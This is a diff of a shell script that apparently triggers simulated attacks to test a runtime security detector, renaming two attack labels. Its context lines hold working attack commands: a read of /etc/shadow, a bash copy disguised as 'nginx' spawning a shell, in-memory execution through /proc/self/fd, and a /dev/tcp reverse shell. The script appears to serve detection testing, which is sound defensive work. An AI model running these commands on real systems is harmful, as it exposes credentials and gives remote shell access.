@@ -9,7 +9,7 @@ attack() { attacks+=("$1|$2|$3"); }
 attack 'Sensitive file read' 'a program that has no business with it reads /etc/shadow' do_shadow
 do_shadow() { head -c 1 /etc/shadow >/dev/null; }
 
-attack 'Shell under a server' 'a web server starts a shell' do_server_shell
+attack 'Shell spawned by a server' 'a web server starts a shell' do_server_shell
 do_server_shell() {
 	cp /bin/bash "$dir/nginx"
 	"$dir/nginx" -c 'sh -c :; :'
@@ -22,7 +22,7 @@ do_memfd() {
 		exec {"/proc/self/fd/$fd"} "true" if fork() == 0; wait' -MIO::Handle
 }
 
-attack 'Redirect of a shell to a socket' "a shell's input and output become a network connection" do_reverse
+attack 'Shell redirected to a network connection' "a shell's input and output become a network connection" do_reverse
 do_reverse() {
 	bash -c "exec 5<>/dev/tcp/${http%:*}/${http##*:}; sh -c 'exec 0<&5 1>&5; :'"
 }
